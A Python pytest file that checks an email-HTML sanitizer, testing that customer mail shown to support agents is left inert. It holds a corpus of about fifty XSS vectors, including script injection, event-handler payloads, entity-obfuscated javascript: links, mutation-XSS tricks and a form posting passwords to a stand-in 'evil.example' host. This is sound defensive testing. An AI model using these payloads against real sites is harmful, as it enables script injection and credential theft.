"""Customer HTML for agents: nothing in the output can run, submit, embed, redirect or load remotely."""

from __future__ import annotations

from html import unescape
from html.parser import HTMLParser

import pytest

from postdesk.mail.sanitize import ALLOWED_TAGS, sanitize_html

# Vectors in the manner of the OWASP XSS filter evasion cheat sheet, plus the mutation-XSS classics.
XSS_CORPUS = {
    "script": "<script>alert(1)</script>",
    "script with src": '<script src="https://evil.example/x.js"></script>',
    "uppercase script": "<SCRIPT>alert(1)</SCRIPT>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "img onerror unquoted": "<img src=x onerror=alert(1)//>",
    "body onload": '<body onload="alert(1)">hi</body>',
    "svg onload": '<svg onload="alert(1)"><circle r="5"/></svg>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
    "<text y=20>x</text></a></svg>",
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "javascript href mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript href leading space": '<a href="  javascript:alert(1)">x</a>',
    "javascript href tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript href newline entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "javascript href decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
    '&#58;alert(1)">x</a>',
    "javascript href hex entities no semicolon": '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70'
    '&#x74&#x3A;alert(1)">x</a>',
    "vbscript href": '<a href="vbscript:msgbox(1)">x</a>',
    "data html href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data html href obfuscated": '<a href="da&#x09;ta:text/html,<script>alert(1)</script>">x</a>',
    "data svg image": '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta refresh to site": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/steal" method="post"><input name="password">'
    '<button formaction="javascript:alert(1)">Send</button></form>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "base href": '<base href="javascript:alert(1)//">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style expression": '<div style="width: expression(alert(1))">x</div>',
    "style url javascript": '<div style="background-image: url(javascript:alert(1))">x</div>',
    "style escaped url": '<div style="background: \\75 rl(https://evil.example/x.png)">x</div>',
    "style element import": "<style>@import 'https://evil.example/x.css'; body{}</style>",
    "math href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "math mglyph mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment breakout": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "details ontoggle": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "video source onerror": '<video><source onerror="alert(1)"></video>',
    "input autofocus onfocus": '<input autofocus onfocus="alert(1)">',
    "marquee onstart": '<marquee onstart="alert(1)">x</marquee>',
    "table background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "xmp breakout": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "srcset": '<img srcset="https://evil.example/a.png 1x">',
}

EXECUTABLE_TAGS = frozenset(
    {"script", "style", "iframe", "object", "embed", "form", "input", "button", "meta", "link", "base"}
    | {"svg", "math", "template", "noscript", "frame", "frameset", "applet", "textarea", "select"}
)
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "background"})


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def _elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def _assert_inert(html: str) -> None:
    for tag, attributes in _elements(html):
        assert tag in ALLOWED_TAGS, tag
        assert tag not in EXECUTABLE_TAGS, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"srcset", "background", "formaction", "action", "srcdoc"}, (tag, name)
            if name in URL_ATTRIBUTES:
                target = "".join(value.split()).lower()
                if tag == "a":
                    assert target.startswith(("http:", "https:", "mailto:")), value
                else:
                    assert target.startswith(("http:", "https:", "data:image/")), value
                    assert not target.startswith("data:image/svg"), value
            if name == "style":
                assert not any(part in value for part in ("url(", "expression", "\\")), value
    decoded = unescape(html).lower()
    for marker in ("javascript:", "vbscript:", "data:text/html", "<script", "http-equiv"):
        assert marker not in "".join(decoded.split()), marker


@pytest.mark.parametrize("vector", XSS_CORPUS.values(), ids=XSS_CORPUS.keys())
def test_no_vector_survives_as_something_that_runs(vector: str) -> None:
    # Given a customer mail body carrying one vector among ordinary text
    html = f"<p>Hello,</p>{vector}<p>Thanks</p>"

    # When it is sanitized, with remote images allowed or not
    for allow in (False, True):
        sanitized = sanitize_html(html, allow_remote_images=allow)

        # Then nothing executable is left, and the text before it is (an unclosed raw-text element
        # may rightly swallow what follows)
        _assert_inert(sanitized.html)
        assert sanitized.html.startswith("<p>Hello,</p>")


def test_the_whole_corpus_at_once_is_inert() -> None:
    sanitized = sanitize_html("\n".join(XSS_CORPUS.values()))
    _assert_inert(sanitized.html)


def test_remote_images_are_counted_and_held_back_until_allowed() -> None:
    # Given a newsletter-style mail with two remote images, one protocol-relative and one inline
    html = (
        '<p>Hi</p><img src="https://tracker.example/open.gif" alt="">'
        '<img src="http://cdn.example/logo.png" alt="Shop logo" width="120">'
        '<img src="//cdn.example/relative.png" alt="rel">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">'
    )

    # When it is sanitized without, then with, remote images
    blocked = sanitize_html(html)
    allowed = sanitize_html(html, allow_remote_images=True)

    # Then both count the two http(s) images; only the second keeps their sources
    assert blocked.remote_images == 2 and allowed.remote_images == 2
    assert [attributes.get("src") for _, attributes in _elements(blocked.html)[1:]] == [
        None,
        None,
        None,
        "data:image/png;base64,iVBORw0KGgo=",
    ]
    assert _elements(blocked.html)[2] == ("img", {"alt": "Shop logo", "width": "120"})
    assert [attributes.get("src") for _, attributes in _elements(allowed.html)[1:]] == [
        "https://tracker.example/open.gif",
        "http://cdn.example/logo.png",
        None,
        "data:image/png;base64,iVBORw0KGgo=",
    ]


def test_cid_images_are_dropped_and_their_alt_text_kept() -> None:
    sanitized = sanitize_html('<img src="cid:part1.abc@example" alt="Screenshot">')
    assert sanitized.html == '<img alt="Screenshot">'
    assert sanitized.remote_images == 0


def test_links_open_apart_without_opener_or_referrer() -> None:
    sanitized = sanitize_html(
        '<a href="https://shop.example/order/4711">order</a> <a href="mailto:a@b.example">a</a>'
    )
    assert _elements(sanitized.html) == [
        (
            "a",
            {"href": "https://shop.example/order/4711", "target": "_blank", "rel": "noopener noreferrer"},
        ),
        ("a", {"href": "mailto:a@b.example", "target": "_blank", "rel": "noopener noreferrer"}),
    ]


def test_mail_formatting_survives() -> None:
    # Given the markup an ordinary mail client writes
    html = (
        "<html><head><title>Re: order</title><style>p{margin:0}</style></head><body>"
        '<div dir="ltr"><p style="color: #333333; font-family: Arial; position: fixed">Dear team,</p>'
        '<table cellpadding="4" border="1"><tr><td colspan="2" bgcolor="#eeeeee"><b>Order</b></td></tr>'
        "</table>"
        "<blockquote><ul><li>one</li><li><i>two</i></li></ul></blockquote></div></body></html>"
    )

    # When it is sanitized
    sanitized = sanitize_html(html)

    # Then layout and emphasis stay, the head and positioning go
    assert sanitized.html == (
        '<div dir="ltr"><p style="color:#333333;font-family:Arial">Dear team,</p>'
        '<table cellpadding="4" border="1"><tbody><tr><td colspan="2" bgcolor="#eeeeee"><b>Order</b>'
        "</td></tr></tbody></table><blockquote><ul><li>one</li><li><i>two</i></li></ul></blockquote></div>"
    )
